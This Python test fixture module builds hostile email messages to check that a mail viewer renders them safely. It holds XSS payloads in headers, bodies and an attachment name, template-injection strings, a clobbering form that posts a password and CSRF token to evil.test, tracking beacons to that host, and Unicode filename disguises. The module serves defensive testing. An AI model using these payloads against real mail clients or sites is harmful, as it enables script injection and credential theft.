"""Messages written to attack whoever reads them."""

from tests import factories

SCRIPT = "<script>alert(1)</script>"
BREAKOUT = "</script><script>alert(2)</script>\u2028<img src=x onerror=alert(3)>"
TEMPLATE = "{{7*7}}{{config}}{% raw %}${7*7}#{7*7}"
CLOBBER = (
    '<form id="csrf" name="body" class="modal fixed" action="//evil.test/take">'
    '<input name="csrf_token"><input type="password" name="password"></form>'
    '<div id="receipt" class="pn-center" style="position:fixed;inset:0">Sign in</div>'
)
HTMX = (
    '<div hx-get="/logout" hx-trigger="load" data-hx-post="/logout" '
    'hx-on::load="alert(4)" hx-swap-oob="true" _="on load call alert(5)" id="main">x'
    "</div>"
)
ACTIVE = "".join(
    (
        '<svg><use href="dAta:image/s\tvg+xml;base64,PHN2Zz48L3N2Zz4=#x"></svg>',
        "<svg><animate onbegin=alert(6) attributeName=x dur=1s></svg>",
        "<svg><style><//><body onload=alert(7)></style></svg>",
        '<map><area href="javascript:alert(8)" shape=default></map>',
        '<embed src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
        "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(9)>",
        '</math><base href="//evil.test/">',
        '<meta http-equiv=refresh content="0;//evil.test">',
        '<iframe srcdoc="<script>alert(10)</script>"></iframe>',
        '<object data="javascript:alert(11)"></object>',
        "<noscript><p title='</noscript><img src=x onerror=alert(12)>'></noscript>",
        '<a href="java\tscript:alert(13)" onclick=alert(14)>open</a>',
        '<a href="vbscript:msgbox(1)">open</a><a href="data:text/html,x">open</a>',
        "<details open ontoggle=alert(15)>x</details>",
    )
)
REMOTE = "".join(
    (
        '<img src="http://evil.test/a.png"><img src="//evil.test/b.png">',
        '<img srcset="http://evil.test/c.png 2x"><body background="//evil.test/d">',
        "<style>@import '//evil.test/e.css';</style>",
        "<style>@font-face{font-family:x;src:url(//evil.test/f)}</style>",
        "<style>*{font-family:x;background:url(//evil.test/g)}</style>",
        '<link rel=stylesheet href="//evil.test/h">',
        '<link rel=dns-prefetch href="//evil.test">',
        '<link rel=preload as=image href="//evil.test/i">',
        '<video poster="//evil.test/j" src="//evil.test/k" autoplay></video>',
        '<div style="background:var(--x);--x:url(//evil.test/l)">x</div>',
        '<svg><image href="//evil.test/m"/>',
        '<animate attributeName=href to="//evil.test/n"/></svg>',
        '<a href="//evil.test/o" ping="//evil.test/p">open</a>',
    )
)
DISGUISE = "invoice\u202efdp.exe pay\u200bpal \u2066x\u2069"


def html(body: str, subject: str = "Hostile") -> bytes:
    """An HTML message with that body."""
    return factories.eml(
        subject, body=body, MIME_Version="1.0", Content_Type="text/html; charset=utf-8"
    )


def headers(payload: str) -> bytes:
    """A message that carries the payload in every header a page shows."""
    quoted = payload.replace('"', "'")
    return factories.eml(
        payload,
        body=payload,
        From=f'"{quoted}" <a@evil.test>',
        To=f'"{quoted}" <staff@example.org>',
        Reply_To=f'"{quoted}" <{SCRIPT}@evil.test>',
        Date=payload,
        Message_ID=f"<{payload}@evil.test>",
        List_Unsubscribe=f"<http://evil.test/{payload}>",
        Received=f"from {payload} by {payload}; {payload}",
        Authentication_Results=f"{payload}; spf=pass smtp.mailfrom={payload}",
        X_Spam=payload,
        Content_Type="text/plain; charset=utf-8",
    )


def attached(name: str, kind: str = "image/svg+xml") -> bytes:
    """A message with a hostile file under a hostile name."""
    body = (
        "--b\r\nContent-Type: text/plain\r\n\r\nSee the file.\r\n"
        f'--b\r\nContent-Type: {kind}; name="{name}"\r\n'
        f'Content-Disposition: attachment; filename="{name}"\r\n\r\n'
        f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>\r\n--b--"
    )
    return factories.eml(
        "File",
        body=body,
        MIME_Version="1.0",
        Content_Type="multipart/mixed; boundary=b",
    )


EVERY = {
    "script in every header": headers(SCRIPT),
    "breakout of a script": headers(BREAKOUT),
    "template expressions": headers(TEMPLATE),
    "active content": html(ACTIVE),
    "active content in plain text": factories.eml(body=ACTIVE),
    "htmx attributes": html(HTMX),
    "clobbering and overlay": html(CLOBBER),
    "remote content": html(REMOTE),
    "disguised text": headers(DISGUISE),
    "hostile attachment name": attached("<img src=x onerror=alert(16)>.svg"),
}
